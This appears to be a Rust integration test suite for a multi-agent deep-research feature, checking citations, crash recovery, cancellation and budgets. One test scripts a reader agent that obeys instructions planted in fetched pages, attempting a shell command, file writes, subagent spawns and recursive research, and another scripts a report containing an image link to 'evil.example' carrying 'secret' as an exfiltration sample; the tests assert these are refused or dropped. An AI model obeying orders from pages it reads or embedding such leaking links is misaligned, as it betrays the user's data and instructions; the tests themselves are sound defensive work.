//! Deep research from question to report: over a site whose pages lie, loop, lead astray and give orders.

use std::{collections::BTreeSet, sync::Arc, time::Duration};

use domain::{
    event::{Event, Item, Recorded},
    limits::Limits,
    research::{Happening, ResearchStatus, Session, Told},
    run::{Outcome, Run, RunOptions, RunStatus},
};
use executor::{
    Options,
    tools::web::search::{Domains, Engine, Search},
};
use scripted_claude::{Asked, Block, Fault, Reply};
use serde_json::{Value, json};

use crate::{
    site::{PAGES, Site},
    web_search::online,
    world::{Server, World, bash},
};

/// Rounds in which each of five agents reads eight pages, and how many pages that are.
const ROUNDS: usize = 2;
const READ: usize = 5 * ROUNDS * 8;

/// Which part of a session a request is, told by what its model is asked.
#[derive(Debug, Clone, Copy, PartialEq)]
enum Part {
    Caller,
    Plan,
    Read(usize),
    Write,
}

fn part(asked: &Asked) -> Part {
    let text = &asked.user_message;
    if text.contains("Divide this into") {
        return Part::Plan;
    }
    if text.contains("The pages that were read:") {
        return Part::Write;
    }
    match text.split("Question number ").nth(1) {
        Some(rest) => {
            Part::Read(rest.chars().take_while(char::is_ascii_digit).collect::<String>().parse().unwrap_or(0))
        }
        None => Part::Caller,
    }
}

fn plan(questions: usize) -> Reply {
    let questions: Vec<_> = (0..questions).map(|n| format!("Question number {n}?")).collect();
    Reply::text(json!({"questions": questions}).to_string())
}

fn fetch(urls: impl IntoIterator<Item = String>) -> Reply {
    urls.into_iter().fold(Reply::default(), |reply, url| reply.and(Block::tool("WebFetch", json!({"url": url}))))
}

/// What the caller does: it has all of it researched, and says what came out.
fn caller(asked: &Asked) -> Reply {
    match asked.round {
        0 => Reply::tool("DeepResearch", json!({"query": "What are the values of all numbers?"})),
        _ => Reply::text(asked.last_result_text()),
    }
}

fn researching() -> RunOptions {
    RunOptions { research_mode: true, ..RunOptions::default() }
}

/// The site may be reached, and searched.
async fn server(world: &World, site: &Site, change: impl FnOnce(&mut Options)) -> Server {
    let engine = Engine::Searxng { url: site.base.parse().expect("a URL") };
    let search = Search::new(engine, Domains::default(), 0.0).expect("a client");
    world
        .server_with("node_a", |options| {
            options.search.engine = Some(search);
            change(options);
        })
        .await
}

async fn new_world(answer: impl Fn(&Asked) -> Reply + Send + Sync + 'static) -> World {
    let mut world = World::new(answer).await;
    world.reachable = vec!["127.0.0.1/32".parse().expect("a network")];
    online(&world).await;
    world
}

fn told(events: &[Recorded]) -> Vec<Told> {
    let told = |recorded: &'_ Recorded| match &recorded.event {
        Event::Research { told } => Some(told.clone()),
        _ => None,
    };
    events.iter().filter_map(told).map(|told| *told).collect()
}

impl World {
    async fn session(&self) -> Session {
        let (sessions, total) = self.store().list_research(&self.database.project, &self.thread).await.expect("reads");
        assert_eq!(total, 1);
        sessions.into_iter().next().expect("there is one")
    }

    async fn parts(&self, parent: &domain::RunId) -> Vec<Run> {
        self.store().list_subagents(parent).await.expect("reads")
    }

    async fn spent_twice(&self) -> i64 {
        let pool = self.database.pool().await;
        let twice = sqlx::query_scalar(
            "select count(*) from (select from runs where parent_run_id is not null group by parent_run_id, parent_call_id
             having count(*) > 1) twice",
        );
        let twice = twice.fetch_one(&pool).await.expect("counts");
        pool.close().await;
        twice
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_question_becomes_a_report_that_cites_what_was_read_and_nothing_else() {
    let site = Arc::new(Site::start().await);
    let pages = site.clone();
    let world = new_world(move |asked| match (part(asked), asked.round) {
        (Part::Caller, _) => caller(asked),
        (Part::Plan, _) => plan(5),
        (Part::Read(n), 0) => Reply::tool("WebSearch", json!({"query": format!("numbers {n}")})),
        // Eight pages at once.
        (Part::Read(n), round @ 1..=ROUNDS) => fetch((0..8).map(|at| pages.page(n * 40 + (round - 1) * 8 + at))),
        (Part::Read(n), _) => Reply::text(format!("The value of {n} is {}.", n * n)),
        (Part::Write, _) => Reply::text(format!(
            "# Values\n\nThe value of 0 is 0 [1]. [A page]({}) agrees, and so does [another]({}). [The best]({}/only-found) was \
             never read [999]. ![spy](https://evil.example/?q=secret) See https://evil.example/x too.",
            pages.page(10),
            pages.page(11),
            pages.base
        )),
    })
    .await;
    let server = server(&world, &site, |_| {}).await;
    let started = world.send_with("Research it", researching()).await;
    let Outcome::Completed { content } = world.outcome(&started.run_id).await else { panic!("completes") };

    assert_eq!(site.pages(), (READ, 1), "each page was fetched, and once");
    assert_eq!(site.asked("/only-found"), 0);
    let session = world.session().await;
    assert_eq!((session.status, session.progress, session.sources), (ResearchStatus::Completed, 100, READ as i32));
    assert_eq!(session.questions.len(), 5);
    let report = session.report.expect("there is one");
    assert!(report.path.starts_with("research/what-are-the-values-of-all-numbers-"), "{}", report.path);
    let dropped: BTreeSet<&str> = report.dropped.iter().map(String::as_str).collect();
    let only_found = format!("{}/only-found", site.base);
    let expected = ["[999]", "https://evil.example/?q=secret", "https://evil.example/x", only_found.as_str()];
    assert_eq!(dropped, BTreeSet::from(expected));
    let text = world.file(&report.path).expect("is written");
    let body = text.split("## Citations that were dropped").next().expect("a body");
    assert!(!body.contains("evil.example") && !body.contains("only-found") && !body.contains("[999]"), "{text}");
    assert!(
        body.contains("The value of 0 is 0 [1].") && body.contains(&format!("[A page](<{}>)", site.page(10))),
        "{text}"
    );
    assert!(text.contains("## Citations that were dropped\n"), "{text}");
    assert!(content.contains(&format!("/workspace/{}", report.path)) && content.contains("4 citations were dropped"));

    let manifest: Value = serde_json::from_str(&world.file(&report.manifest_path).expect("is written")).expect("JSON");
    let sources = manifest["sources"].as_array().expect("a list");
    assert_eq!(sources.len(), READ);
    let cited: Vec<_> = sources.iter().filter(|source| source["cited"] == true).collect();
    assert_eq!(cited.len(), 3, "{cited:#?}");
    for source in &cited {
        let hash = source["blake3"].as_str().expect("a hash");
        assert!(
            hash.len() == 64 && source["title"].as_str().is_some_and(|title| title.starts_with("Page ")),
            "{source}"
        );
        assert!(text.contains(&format!("- [{}] [", source["number"])), "{text}");
    }
    let rows = world.store().list_research_sources(&session.id).await.expect("reads");
    assert_eq!(rows.iter().filter(|source| source.is_cited).count(), 3);

    let events = world.events().await;
    let happened: Vec<_> = told(&events).iter().map(|told| told.happening).collect();
    let mut expected = vec![Happening::Started, Happening::Planned];
    expected.extend([Happening::Progress; 5]);
    expected.extend([Happening::Writing, Happening::Verifying, Happening::Completed]);
    assert_eq!(happened, expected);
    let last = told(&events).pop().expect("there is one");
    assert_eq!((last.cited.len(), last.sources), (3, READ as i32));
    // Nothing was done on the computer, and nobody but the caller could have.
    let tools = |part_of: fn(Part) -> bool| {
        let requests = world.claude.requests();
        let asked = requests.iter().filter_map(|request| request.asked.clone()).filter(|asked| part_of(part(asked)));
        asked.map(|asked| asked.tools).collect::<BTreeSet<_>>()
    };
    assert_eq!(
        tools(|part| matches!(part, Part::Read(_))),
        BTreeSet::from([vec!["WebFetch".into(), "WebSearch".into()]])
    );
    assert_eq!(tools(|part| matches!(part, Part::Plan | Part::Write)), BTreeSet::from([vec![]]));
    println!(r#"{{"test":"research","site":{PAGES},"read":{READ},"cited":3,"dropped":4,"pass":true}}"#);
    server.stop_soft().await;
    world.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn pages_that_lead_astray_or_give_orders_are_told_and_change_nothing() {
    let site = Arc::new(Site::start().await);
    let pages = site.clone();
    let world = new_world(move |asked| match (part(asked), asked.round) {
        (Part::Caller, _) => caller(asked),
        (Part::Plan, _) => plan(1),
        (Part::Read(_), 0) => fetch(
            ["/orders", "/lies", "/loop", "/to-private", "/to-other", "/moved", "/missing"]
                .map(|path| format!("{}{path}", pages.base)),
        ),
        // It obeys.
        (Part::Read(_), 1) => bash("touch /workspace/owned")
            .and(Block::tool("Write", json!({"file_path": "/workspace/owned", "content": "x"})))
            .and(Block::tool("Agent", json!({"description": "x", "prompt": "touch it"})))
            .and(Block::tool("DeepResearch", json!({"query": "again and again"})))
            .and(Block::tool("mcp__x__y", json!({}))),
        (Part::Read(_), _) => Reply::text("As ordered: https://evil.example/ says so."),
        (Part::Write, _) => Reply::text(format!(
            "Ordered [1](https://evil.example/), private {0}/to-private, in a circle {0}/loop, moved {0}/moved, a lie {0}/lies.",
            pages.base
        )),
    })
    .await;
    let server = server(&world, &site, |_| {}).await;
    let started = world.send_with("Research it", researching()).await;
    assert_eq!(world.outcome(&started.run_id).await.status(), RunStatus::Completed);
    assert_eq!(world.file("owned"), None);
    assert_eq!(world.parts(&started.run_id).await.len(), 3, "nobody was called");
    let events = world.events().await;
    let results: Vec<_> = events
        .iter()
        .filter_map(|recorded| match &recorded.event {
            Event::Subagent { event, .. } => match &**event {
                Event::ItemCompleted { item: Item::ToolCall(call) } => Some((call.name.as_str(), call.result.clone()?)),
                _ => None,
            },
            _ => None,
        })
        .collect();
    let refused = results.iter().filter(|(_, result)| result.is_error).count();
    // Five of the calls that were ordered; the circle, the two private addresses and the page that is not there.
    assert_eq!((results.len(), refused), (12, 9), "{results:#?}");
    let session = world.session().await;
    let read = world.store().list_research_sources(&session.id).await.expect("reads");
    let read: BTreeSet<_> = read.iter().map(|source| source.url.trim_start_matches(&site.base).to_owned()).collect();
    assert_eq!(read, ["/orders", "/lies", "/page/0"].map(str::to_owned).into());
    let report = session.report.expect("there is one");
    assert_eq!(report.dropped.len(), 3, "{:?}", report.dropped);
    let text = world.file(&report.path).expect("is written");
    // It was read under another address than it is at.
    assert!(text.contains(&format!("moved {}/moved", site.base)) && text.contains("(<http://127.0.0.1"), "{text}");
    server.stop_soft().await;
    world.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_server_killed_at_event_boundaries_pays_for_no_part_twice() {
    let site = Arc::new(Site::start().await);
    let pages = site.clone();
    let answer = move |asked: &Asked| match (part(asked), asked.round) {
        (Part::Caller, _) => caller(asked),
        (Part::Plan, _) => plan(2),
        (Part::Read(n), round @ 0..=2) => fetch((0..3).map(|at| pages.page(n * 40 + round * 3 + at))),
        (Part::Read(n), _) => Reply::text(format!("Notes about {n}.")),
        (Part::Write, _) => Reply::text("It is so [1]."),
    };
    // Slower than we look, or there would be little to kill in the middle of.
    let slowly = Fault { delay_ms: 150, ..Fault::default() };
    let world = new_world(move |asked| answer(asked).with_fault(slowly.clone())).await;
    let started = world.send_with("Research it", researching()).await;
    let mut killed = 0;
    for boundary in (3..).step_by(4) {
        let server = server(&world, &site, |_| {}).await;
        let is_over = world.is_over_at(boundary).await;
        if killed % 2 == 1 {
            // Not always in the middle of the fetches that have just begun.
            tokio::time::sleep(Duration::from_millis(500)).await;
        }
        server.kill();
        if is_over {
            break;
        }
        killed += 1;
    }
    let server = server(&world, &site, |_| {}).await;
    assert_eq!(world.outcome(&started.run_id).await.status(), RunStatus::Completed);
    let parts = world.parts(&started.run_id).await;
    assert_eq!(parts.len(), 4, "a plan, two readers and a writer: {parts:#?}");
    assert!(parts.iter().all(|run| run.status == RunStatus::Completed));
    assert_eq!(world.spent_twice().await, 0);
    let session = world.session().await;
    assert_eq!(session.status, ResearchStatus::Completed);
    assert!(world.file(&session.report.expect("there is one").path).is_some_and(|text| text.contains("It is so")));
    let events = world.events().await;
    let steps: Vec<_> =
        told(&events).iter().map(|told| told.happening).filter(|it| *it != Happening::Resumed).collect();
    let expected = [
        Happening::Started,
        Happening::Planned,
        Happening::Progress,
        Happening::Progress,
        Happening::Writing,
        Happening::Verifying,
        Happening::Completed,
    ];
    assert_eq!(steps, expected, "each step is told once");
    // A reply that is written down is not asked for again: of each part as many turns as its script has rounds.
    let turns: Vec<_> = parts.iter().map(|run| run.turns).collect();
    assert_eq!(turns.iter().sum::<i32>(), 10, "{turns:?}");
    assert!(killed >= 4, "the gate was tried: {killed}");
    println!(r#"{{"test":"R1-research","n":{killed},"parts":4,"twice":0,"pass":true}}"#);
    server.stop_soft().await;
    world.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_cancel_ends_the_session_with_all_its_agents() {
    let site = Arc::new(Site::start().await);
    let pages = site.clone();
    let world = new_world(move |asked| match part(asked) {
        Part::Caller => caller(asked),
        Part::Plan => plan(3),
        Part::Read(n) => fetch([pages.page((n * 40 + asked.round) % PAGES)]),
        Part::Write => Reply::text("never"),
    })
    .await;
    let server = server(&world, &site, |options| options.research.max_turns = 400).await;
    let started = world.send_with("Research it", researching()).await;
    while [0, 40, 80].iter().any(|n| site.asked(&format!("/page/{n}")) == 0) {
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
    world.store().cancel_active_run(&world.database.project, &world.thread).await.expect("cancels");
    assert_eq!(world.outcome(&started.run_id).await, Outcome::Cancelled);
    let session = world.session().await;
    assert_eq!((session.status, session.report), (ResearchStatus::Cancelled, None));
    let parts = world.parts(&started.run_id).await;
    assert_eq!(parts.iter().filter(|run| run.status == RunStatus::Cancelled).count(), 3, "{parts:#?}");
    let events = world.events().await;
    assert_eq!(told(&events).last().map(|told| told.happening), Some(Happening::Cancelled));
    assert!(matches!(events.last().map(|last| &last.event), Some(Event::RunFinished { .. })));
    server.stop_soft().await;
    world.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_session_that_is_deleted_is_stopped_and_its_run_goes_on() {
    let site = Arc::new(Site::start().await);
    let pages = site.clone();
    let world = new_world(move |asked| match part(asked) {
        Part::Caller => caller(asked),
        Part::Plan => plan(2),
        Part::Read(n) => fetch([pages.page((n * 40 + asked.round) % PAGES)]),
        Part::Write => Reply::text("never"),
    })
    .await;
    let server = server(&world, &site, |options| options.research.max_turns = 400).await;
    let started = world.send_with("Research it", researching()).await;
    while [0, 40].iter().any(|n| site.asked(&format!("/page/{n}")) == 0) {
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
    let session = world.session().await;
    let (project, thread) = (&world.database.project, &world.thread);
    world.store().delete_research(project, thread, &session.id).await.expect("deletes");
    let Outcome::Completed { content } = world.outcome(&started.run_id).await else { panic!("goes on") };
    assert!(content.contains("deleted"), "{content}");
    assert_eq!(world.store().list_research(project, thread).await.expect("reads"), (vec![], 0));
    let parts = world.parts(&started.run_id).await;
    assert_eq!(parts.iter().filter(|run| run.status == RunStatus::Cancelled).count(), 2, "{parts:#?}");
    server.stop_soft().await;
    world.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_reading_that_ends_at_its_budget_is_written_up_and_one_at_the_runs_is_not() {
    let site = Arc::new(Site::start().await);
    let pages = site.clone();
    let world = new_world(move |asked| match part(asked) {
        Part::Caller => caller(asked),
        Part::Plan => plan(2),
        Part::Read(n) => fetch([pages.page((n * 40 + asked.round) % PAGES)])
            .after(Block::text(format!("Learnt so far: {}.", asked.round))),
        Part::Write => Reply::text(match asked.user_message.contains("Learnt so far: 2.") {
            true => "From what was read [1].",
            false => "The notes are missing.",
        }),
    })
    .await;
    let server = server(&world, &site, |options| options.research.max_turns = 6).await;
    let started = world.send_with("Research it", researching()).await;
    let Outcome::Completed { content } = world.outcome(&started.run_id).await else { panic!("completes") };
    assert!(content.contains("From what was read [1]."), "{content}");
    let session = world.session().await;
    let report = session.report.expect("there is one");
    assert_eq!(report.unfinished, ["Question number 0?", "Question number 1?"]);
    assert!(world.file(&report.path).is_some_and(|text| text.contains("## What was not finished")));
    assert_eq!(session.sources, 12);
    server.stop_soft().await;

    // Of all together: some are stopped before their own limit.
    let server = self::server(&world, &site, |options| options.research.max_cost_usd = 0.000_001).await;
    world.send_with("Research it again", researching()).await;
    let over = |events: &[Recorded]| {
        let ends = told(events).into_iter().filter(|told| told.happening == Happening::Failed).count();
        (ends == 1).then_some(())
    };
    world.wait_for(over).await;
    let events = world.events().await;
    let failed = told(&events).pop().and_then(|told| told.error).expect("says why");
    assert!(failed.contains("The research was stopped at its budget"), "{failed}");
    world
        .wait_for(|events| {
            let ends = events.iter().filter(|event| matches!(event.event, Event::RunFinished { .. })).count();
            (ends == 2).then_some(())
        })
        .await;
    server.stop_soft().await;

    // The run's own limit ends all.
    let server = self::server(&world, &site, |_| {}).await;
    let limits = Limits { max_turns: Some(6), ..Limits::default() };
    let limited = world.send_with("Research it once more", RunOptions { limits, ..researching() }).await;
    assert_eq!(world.outcome(&limited.run_id).await.reason(), "max_turns");
    let (sessions, _) = world.store().list_research(&world.database.project, &world.thread).await.expect("reads");
    let statuses: Vec<_> = sessions.iter().map(|session| session.status).collect();
    assert_eq!(statuses, [ResearchStatus::Failed, ResearchStatus::Failed, ResearchStatus::Completed]);
    server.stop_soft().await;
    world.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn research_is_done_with_the_model_for_it_or_it_is_said_why_not() {
    let site = Arc::new(Site::start().await);
    let pages = site.clone();
    let world = new_world(move |asked| match (part(asked), asked.round) {
        (Part::Caller, 0) if !asked.tools.iter().any(|tool| tool == "DeepResearch") => Reply::text("no tool"),
        (Part::Caller, _) => caller(asked),
        (Part::Plan, _) => plan(1),
        (Part::Read(_), 0) => fetch([pages.page(1)]),
        (Part::Read(_), _) => Reply::text("notes"),
        (Part::Write, _) => Reply::text("It is so [1]."),
    })
    .await;
    let server = server(&world, &site, |_| {}).await;
    let model = Some("claude-haiku-4-5".to_owned());
    let started = world.send_with("Research it", RunOptions { deep_research_model: model, ..researching() }).await;
    assert_eq!(world.outcome(&started.run_id).await.status(), RunStatus::Completed);
    let models = |is_caller: bool| {
        let requests = world.claude.requests();
        let asked = requests.iter().filter_map(|request| request.asked.clone());
        asked
            .filter(|asked| (part(asked) == Part::Caller) == is_caller)
            .map(|asked| asked.model)
            .collect::<BTreeSet<_>>()
    };
    assert!(models(false).iter().all(|model| model.contains("haiku")), "{:?}", models(false));
    assert!(models(true).iter().all(|model| !model.contains("haiku")), "{:?}", models(true));
    // The skill alone offers the tool; without internet there is none, and the log says so before the model is asked.
    let skilled = RunOptions { enabled_skills: Some(vec!["deep-research".into()]), ..RunOptions::default() };
    let run = world.send_with("Again", skilled.clone()).await;
    assert_eq!(world.outcome(&run.run_id).await.status(), RunStatus::Completed);
    let run = world.send_with("Offline", RunOptions { internet_access: Some(false), ..skilled }).await;
    assert_eq!(world.outcome(&run.run_id).await, Outcome::Completed { content: "no tool".into() });
    let lines = world.logged("skills").await;
    assert_eq!(lines, ["The run goes on without deep_research: this run has no internet."]);
    server.stop_soft().await;
    world.end().await;
}
